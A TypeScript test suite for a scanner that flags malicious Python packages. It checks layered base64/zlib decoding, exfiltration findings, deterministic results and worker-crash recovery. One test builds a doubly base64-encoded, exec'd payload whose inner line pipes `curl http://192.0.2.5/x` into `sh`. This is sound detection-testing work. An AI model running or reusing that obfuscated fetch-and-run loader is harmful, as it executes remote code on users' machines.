import { afterAll, describe, expect, it } from "vitest";
import type { Analysis } from "../../../main/model/analysis/analysis.ts";
import { AnalystError } from "../../../main/model/analyst-error.ts";
import { createScanPool } from "../../../main/scan/scan-pool.ts";
import { buildSpecimen, PAYLOAD, SPECIMEN_NAME } from "../../e2e/support/specimen.ts";
import { failureOf } from "../../support/open-bytes.ts";
import { buildZip } from "../../support/zip-builder.ts";

const pool = createScanPool({ jobs: 2 });
afterAll(() => pool.close());

const specimen = { kind: "bytes", filename: SPECIMEN_NAME, bytes: buildSpecimen(), origin: "upload" } as const;

function timeless(analysis: Analysis): unknown {
	return { ...analysis, durationMs: 0 };
}

describe("a scan", () => {
	it("tells who runs what, out of which layer, and maps it back to the literal", async () => {
		const scanned = await pool.scan(specimen);
		const { analysis } = scanned;
		expect(analysis.verdict.level).toBe("malicious");
		expect(analysis.layers).toHaveLength(1);
		const [layer] = analysis.layers;
		expect(layer?.chain.map((step) => step.transform)).toEqual(["base64", "zlib"]);
		expect(layer).toMatchObject({
			kind: "python",
			use: "executed",
			depth: 1,
			path: "glass-frog-1.2.0/glass_frog/__init__.py",
		});
		expect((await scanned.document(layer?.id ?? ""))?.document.text).toBe(PAYLOAD);
		const sent = analysis.findings.find((finding) => finding.layerIds.length > 0 && finding.family === "exfiltration");
		expect(sent).toMatchObject({ reach: "import", span: layer?.memberSpan });
		expect(sent?.layerSpan?.startLine).toBeGreaterThan(1);
		expect(analysis.verdict.story.join("\n")).toMatch(/On `pip install`, setup\.py requests hxxp/);
		await scanned.close();
	});

	it("gives the same findings with the same ids in the same order, with one worker or with several, with the prefilter or without", async () => {
		const first = await pool.scan(specimen);
		const filtered = createScanPool({ jobs: 1, prefilter: true });
		try {
			const again = await Promise.all([pool.scan(specimen), pool.scan(specimen), filtered.scan(specimen)]);
			for (const { analysis } of again) expect(timeless(analysis)).toEqual(timeless(first.analysis));
		} finally {
			await filtered.close();
		}
	});

	it("decodes what is nested twice", async () => {
		const inner = Buffer.from("import os\nos.system('curl http://192.0.2.5/x | sh')\n");
		const once = `import base64\nexec(base64.b64decode(${JSON.stringify(inner.toString("base64"))}))\n`;
		const twice = `import base64\nexec(base64.b64decode(${JSON.stringify(Buffer.from(once).toString("base64"))}))\n`;
		const bytes = buildZip([{ name: "pkg/__init__.py", content: twice }]);
		const { analysis } = await pool.scan({
			kind: "bytes",
			filename: "pkg-1-py3-none-any.whl",
			bytes,
			origin: "upload",
		});
		expect(analysis.layers.map(({ id, parentId, depth }) => ({ id, parentId, depth }))).toEqual([
			{ id: "l0", parentId: undefined, depth: 1 },
			{ id: "l1", parentId: "l0", depth: 2 },
		]);
		const deepest = analysis.findings.filter((finding) => finding.layerIds.length === 2);
		expect(deepest.map((finding) => finding.rule)).toContain("shell-download");
		for (const finding of deepest) expect(finding.span.startLine).toBe(2);
	});

	it("answers `cancelled` when it is cancelled, and scans the next one", async () => {
		const stop = new AbortController();
		const failure = failureOf(pool.scan(specimen, { signal: stop.signal, onProgress: () => stop.abort() }));
		stop.abort();
		expect((await failure).code).toBe("cancelled");
		expect((await pool.scan(specimen)).analysis.verdict.level).toBe("malicious");
	});
});

describe("a pool whose worker dies", () => {
	const setup = "glass-frog-1.2.0/setup.py";

	it("leaves the member out that killed it, says so, and goes on", async () => {
		process.env["VIVARIUM_FAULT"] = "exit:worker:/setup.py";
		const fragile = createScanPool({ jobs: 1 });
		try {
			const { analysis } = await fragile.scan(specimen);
			expect(analysis.coverage.skipped.map(({ path, reason }) => [path, reason])).toEqual([
				[setup, "the scanner died while it read this member: not examined"],
			]);
		} finally {
			delete process.env["VIVARIUM_FAULT"];
			await fragile.close();
		}
	});

	it("passes over what an earlier process died of, by what it did", async () => {
		const warned = createScanPool({
			jobs: 1,
			losses: (artifact) =>
				artifact.startsWith("bytes ") ? [{ memberId: "0", where: "opening" }] : [{ memberId: "m1" }],
		});
		try {
			const { analysis } = await warned.scan(specimen);
			expect(analysis.coverage.skipped.map(({ path, reason }) => [path, reason])).toEqual([
				[analysis.members[0]?.path, "the analysis engine ended while it unpacked this member: not examined"],
				[analysis.members[1]?.path, "the analysis engine ended while it read this member: not examined"],
			]);
		} finally {
			await warned.close();
		}
	});

	it("gives up with a typed error when nothing helps", async () => {
		const hopeless = createScanPool({ jobs: 1, workerScript: new URL("data:text/javascript,process.exit(1)") });
		try {
			await expect(hopeless.scan(specimen)).rejects.toThrow(AnalystError);
		} finally {
			await hopeless.close();
		}
	});
});
